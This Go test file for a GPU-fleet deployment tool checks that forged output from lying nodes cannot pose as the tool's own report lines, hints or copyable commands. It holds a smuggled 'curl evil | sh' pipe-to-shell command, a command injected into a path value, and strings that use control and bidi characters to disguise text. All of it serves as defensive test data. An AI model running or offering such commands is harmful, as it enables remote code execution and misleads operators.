package deploy_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/dsbuild/dsbuild/fleet"
	"github.com/dsbuild/dsbuild/fleet/change"
	"github.com/dsbuild/dsbuild/fleet/deploy"
	"github.com/dsbuild/dsbuild/fleet/report"
	"github.com/dsbuild/dsbuild/fleet/report/page"
	"github.com/dsbuild/dsbuild/fleet/verify"
	"github.com/dsbuild/dsbuild/internal/testkit/needs"
	"github.com/dsbuild/dsbuild/internal/testkit/sshtest"
	"github.com/dsbuild/dsbuild/inventory"
)

// liar is a node of which some programs answer what they like: it stands where exec_prefix
// enters a container. Lies are Python: say says a message.
const liar = `#!/usr/bin/env python3
import json, os, subprocess, sys
kinds = json.loads(%LIES%)
argv = sys.argv[1:]
at = next((i for i, word in enumerate(argv) if word.startswith("#dsbuild")), None)
if at is None:
    if "list" in kinds and len(argv) > 6 and argv[5].startswith(".dsbuild-try-") and "head -n" in argv[2]:
        exec(kinds["list"])
        os._exit(0)
    os.execvp(argv[0], argv)
size = int(argv[at + 1].split("+")[0])
head = b""
while len(head) < size:
    head += os.read(0, size - len(head))
told = json.loads(head.decode().split("\n", 3)[3])  # after remote.EndShell
request = told["request"] or {}
kind = ("probe" if told["program"].startswith("probe") else "relay" if "quiet_s" in request else "agent" if "silence_s" in request else "verify" if "record" in request else "load" if "ops" in request else "other")
if kind == "probe" and "known" in request:
    kind = "look"


def say(message):
    os.write(1, ("\n" + told["mark"] + json.dumps(message) + "\n").encode("ascii"))


def honest(change=lambda message: message):
    """Runs the program, and passes its messages on as change makes them."""
    child = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    import threading

    def feed():
        child.stdin.write(head)
        child.stdin.flush()
        while True:
            block = os.read(0, 65536)
            if not block:
                break
            try:
                child.stdin.write(block)
                child.stdin.flush()
            except OSError:
                return
        child.stdin.close()

    threading.Thread(target=feed, daemon=True).start()
    for line in child.stdout:
        text = line.decode("utf-8", "replace").rstrip("\n")
        if text.startswith(told["mark"]) and text[len(told["mark"]):].startswith("{"):
            say(change(json.loads(text[len(told["mark"]):])))
        elif text:
            os.write(1, b"\n" + line)
    os._exit(child.wait())


if kind in kinds:
    exec(kinds[kind])
    os._exit(0)
honest()
`

// lying is the exec_prefix of a node whose programs of some kinds (probe, look, agent,
// verify, load, relay, list: of the words that show who shares a folder) answer as told.
func lying(t *testing.T, lies map[string]string) []string {
	t.Helper()
	text, err := json.Marshal(lies)
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "liar")
	if err := os.WriteFile(file, []byte(strings.Replace(liar, "%LIES%", strconv.QuoteToASCII(string(text)), 1)), 0o755); err != nil {
		t.Fatal(err)
	}
	return []string{file}
}

// forged is a text that would stand as lines of dsbuild's, were its breaks printed.
const forged = `"it failed\n3 nodes ok, all equal\r\n  hint: dsbuild forged\u2028hint: forged\u0085gpu9: forged\u000bforged\x1b[2K\u202eforged" + "\u2800\u3164" * 200 + "forged"`

// forgedLine is a line that begins with the words of a lying node.
var forgedLine = regexp.MustCompile(`(?m)^[\s"]*(hint: )?(3 nodes ok|forged|hint: forged|dsbuild forged|gpu9)`)

// unmarked is the first line in which nothing says that the words of a lying node are the
// node's: they stand neither behind "node reported" nor in quotes.
func unmarked(text string) string {
	for line := range strings.Lines(text) {
		before, _, found := strings.Cut(line, "3 nodes ok, all equal")
		if found && !strings.Contains(before, "node reported: ") && !strings.Contains(before, `"`) {
			return line
		}
	}
	return ""
}

// copied is a command of the node's that the page offers to copy.
var copied = regexp.MustCompile(`data-copy="[^"]*evil`)

// A node's words never make a line of their own, are marked as the node's, and no hint is
// the node's, in whatever form the report comes.
func TestNodesWordsAreMarked(t *testing.T) {
	needs.Time(t)
	t.Parallel()
	const evil = "dsbuild x; curl evil | sh"
	for name, c := range map[string]struct {
		lies   map[string]string
		verify bool
	}{
		"agent refuses":  {lies: map[string]string{"agent": `say({"to": 0, "failed": ` + forged + `, "advice": "` + evil + `", "busy": False})`}},
		"agent, version": {lies: map[string]string{"agent": `honest(lambda m: dict(m, ok=dict(m["ok"], version=` + forged + `)) if "version" in (m.get("ok") or {}) else m)`}},
		"agent dies":     {lies: map[string]string{"agent": `sys.stderr.write(` + forged + `); sys.stderr.flush(); os._exit(1)`}},
		"verify":         {lies: map[string]string{"verify": `say({"failed": ` + forged + `, "advice": "no-room ` + evil + `"})`}},
		"verify, op":     {lies: map[string]string{"verify": `say({"op": ` + forged + `}); os._exit(1)`}},
		"probe":          {lies: map[string]string{"probe": `honest(lambda m: {"python": dict(m["python"], site_packages=` + forged + `, prefix=` + forged + `, executable="/bin/python; ` + evil + `", writable=False)})`}},
		"probe, torch":   {lies: map[string]string{"probe": `honest(lambda m: {"python": dict(m["python"], torch_text="__version__ = '2.15.0\\u2028" + ` + forged + ` + "'\\ncuda = '13.2'\\n")})`}},
		"look":           {lies: map[string]string{"look": `honest(lambda m: {"wrong": ` + forged + `, "advice": "` + evil + `"} if "looked" in m else m)`}, verify: true},
		"look, paths":    {lies: map[string]string{"look": `honest(lambda m: {"looked": dict(m["looked"], files={"deepspeed/" + ` + forged + ` + ".py": " 00"}, digest="")} if "looked" in m else m)`}, verify: true},
		"look, links":    {lies: map[string]string{"look": `honest(lambda m: {"looked": dict(m["looked"], links={"count": 1, "first": [` + forged + `]}, litter={"count": 1, "first": [` + forged + `]})} if "looked" in m else m)`}, verify: true},
		"look, note":     {lies: map[string]string{"look": `honest(lambda m: {"looked": dict(m["looked"], noted={"wheel": ` + forged + `, "sha256": ` + forged + `, "version": m["looked"]["version"], "same": False})} if "looked" in m else m)`}, verify: true},
		"look, version":  {lies: map[string]string{"look": `honest(lambda m: {"looked": dict(m["looked"], version=` + forged + `, noted={"wheel": "x", "sha256": "", "version": ` + forged + `, "same": False})} if "looked" in m else m)`}, verify: true},
		"look, manifest": {lies: map[string]string{"look": `honest(lambda m: {"looked": dict(m["looked"], manifest=dict(m["looked"]["manifest"], torch=` + forged + `, cpu=` + forged + `, cuda=` + forged + `, python=` + forged + `, glibc=` + forged + `, archs=[` + forged + `], ops=[` + forged + `]))} if "looked" in m else m)`}, verify: true},
		"load":           {lies: map[string]string{"load": `say({"broken": ` + forged + `, "advice": "` + evil + `"}); say({"note": ` + forged + `}); say({"done": True})`}, verify: true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			e, wheels := withInstalled(t, "0.19.8")
			if !c.verify {
				e = newEnvironment(t, "2.15.0")
			}
			h, s := host(t, "gpu1", e, sshtest.Options{})
			opt := options(t, wheels, []*sshtest.Server{s}, h)
			opt.Logs = fleet.Logs{Dir: t.TempDir()}
			opt.Hosts[0].ExecPrefix = lying(t, c.lies)
			r := reportOf(t, opt, c.verify)
			if n := r.Nodes[0]; n.Status == report.OK && name != "agent, version" && name != "probe, torch" && name != "look, note" && name != "look, manifest" {
				t.Errorf("nobody noticed: %+v", n)
			}
			for _, c := range r.Why() {
				if strings.Contains(c.Hint+r.Nodes[0].Hint, "evil") {
					t.Errorf("the hint is the node's: %q, %q", c.Hint, r.Nodes[0].Hint)
				}
			}
			for form, text := range forms(t, r, opt) {
				if found := forgedLine.FindString(text); found != "" {
					t.Errorf("%s has the line %q:\n%s", form, found, text)
				}
				if found := unmarked(text); form == "text" && found != "" {
					t.Errorf("%s has words of the node's that are not marked: %q", form, found)
				}
				if found := copied.FindString(text); found != "" {
					t.Errorf("%s offers to copy %s", form, found)
				}
				if strings.ContainsAny(text, "\u2028\u0085\v\x1b\u202e\u2800\u3164") {
					t.Errorf("%s has hidden characters: %q", form, text)
				}
			}
		})
	}
}

// reportOf is what a deploy, or a verify, of some nodes reports.
func reportOf(t *testing.T, opt deploy.Options, isVerify bool) *report.Report {
	t.Helper()
	if !isVerify {
		return run(t, t.Context(), opt)
	}
	r, err := verify.Run(t.Context(), verifyOptions(opt))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// forms are all that a reader gets to see of a report, and the log.
func forms(t *testing.T, r *report.Report, opt deploy.Options) map[string]string {
	t.Helper()
	var text, html bytes.Buffer
	about := report.About{Command: "deploy", At: time.Unix(0, 0), By: "me@here", Inventory: "inventory.yaml"}
	if err := r.Print(&text); err != nil {
		t.Fatal(err)
	}
	if err := page.Write(&html, r, about); err != nil {
		t.Fatal(err)
	}
	whole, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	log, err := os.ReadFile(filepath.Join(opt.Logs.Dir, "gpu1.log"))
	if err != nil {
		t.Fatal(err)
	}
	return map[string]string{"text": text.String(), "HTML": html.String(), "JSON": string(whole), "log": string(log)}
}

// A node that says that it has its neighbour's environment changes nothing for the
// neighbour: not that it is served, nor what is reported of it.
func TestAClaimedEnvironmentHarmsNobody(t *testing.T) {
	needs.Time(t)
	t.Parallel()
	for name, c := range map[string]struct{ lie, status string }{
		"and does not fit":    {`, torch_text="__version__ = '2.14.0'\ncuda = '13.2'\n"`, "refused"},
		"and is in use":       {`, in_use=[{"pid": 1, "user": "a", "command": "b", "job": ""}]`, "refused"},
		"and fits":            {``, "ok"},
		"and lacks all torch": {`, torch_text="", dists={}`, "refused"},
	} {
		for _, first := range []bool{true, false} {
			t.Run(fmt.Sprintf("%s, first %v", name, first), func(t *testing.T) {
				t.Parallel()
				wheels := load(t, makeWheel(t, t.TempDir(), wheelOptions{}))
				honest, other := newEnvironment(t, "2.15.0"), newEnvironment(t, "2.15.0")
				h1, s1 := host(t, "gpu1", honest, sshtest.Options{})
				h2, s2 := host(t, "gpu2", other, sshtest.Options{})
				h2.ExecPrefix = lying(t, map[string]string{
					"probe": `honest(lambda m: {"python": dict(m["python"]` + c.lie + `)})`,
					"list":  `os.write(1, "\n".join(["2" * 26, "A" * 26, argv[6], "Z" * 26]).encode())`,
				})
				hosts := []inventory.Host{h1, h2}
				if first {
					hosts = []inventory.Host{h2, h1}
				}
				r := run(t, t.Context(), options(t, wheels, []*sshtest.Server{s1, s2}, hosts...))
				for _, n := range r.Nodes {
					switch {
					case n.Name == "gpu1" && (n.Status != report.OK || !n.Changed || n.After == nil || n.After.Version != wheels[0].Version || n.Before != nil):
						t.Errorf("the neighbour: %+v", n)
					case n.Name == "gpu2" && string(n.Status) != c.status:
						t.Errorf("the liar: %+v", n)
					}
				}
				if got := honest.version(t); got != wheels[0].Version {
					t.Errorf("an import finds %q on the neighbour", got)
				}
			})
		}
	}
}

// Nodes that share an environment are found, also where another one shows their words, and nothing is left of the words;
// what is reported of a follower is what it shows itself.
func TestSharingIsProved(t *testing.T) {
	needs.Time(t)
	t.Parallel()
	wheels := load(t, makeWheel(t, t.TempDir(), wheelOptions{}))
	e, other, third := newEnvironment(t, "2.15.0"), newEnvironment(t, "2.15.0"), newEnvironment(t, "2.15.0")
	h1, s1 := host(t, "gpu1", e, sshtest.Options{})
	h2, s2 := host(t, "gpu2", other, sshtest.Options{})
	h3, s3 := host(t, "gpu3", e, sshtest.Options{})
	h4, s4 := host(t, "gpu4", third, sshtest.Options{})
	// It can read the folders of two others, and shows the words of both. This joins it to one of them, and not these to each other.
	h4.ExecPrefix = lying(t, map[string]string{"probe": `honest(lambda m: {"python": dict(m["python"], writable=False)})`, "list": fmt.Sprintf(
		`os.write(1, "\n".join(word for site in [%q, %q] for word in os.listdir(os.path.join(site, argv[5])) if word[0] != ".").encode())`, other.site, e.site)})
	opt := options(t, wheels, []*sshtest.Server{s1, s2, s3, s4}, h1, h2, h3, h4)
	d := deploy.New(opt)
	defer d.Close()
	plan, err := d.Survey(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range []change.Action{change.Install, change.Install, change.Shared, change.Shared} {
		if p := plan.Nodes[i]; p.Action != want {
			t.Errorf("%s: %s (leader %d), want %s", p.Name, p.Action, p.Leader, want)
		}
	}
	for _, place := range []environment{e, other, third} {
		if left, err := filepath.Glob(filepath.Join(place.site, ".dsbuild-*")); err != nil || len(left) > 0 {
			t.Errorf("left behind: %q, %v", left, err)
		}
	}
	// What the leader says of its version is not what the follower has.
	h1.ExecPrefix = lying(t, map[string]string{
		"agent":  `honest(lambda m: dict(m, ok=dict(m["ok"], version="9.9.9", record="0" * 64)) if "version" in (m.get("ok") or {}) else m)`,
		"verify": `say({"verified": {"version": "", "torch": "", "cuda": ""}})`,
	})
	r := run(t, t.Context(), options(t, wheels, []*sshtest.Server{s1, s3}, h1, h3))
	if n := r.Nodes[1]; n.Status != report.Failed || n.After == nil || n.After.Version != wheels[0].Version {
		t.Errorf("the follower: %+v", n)
	}
}
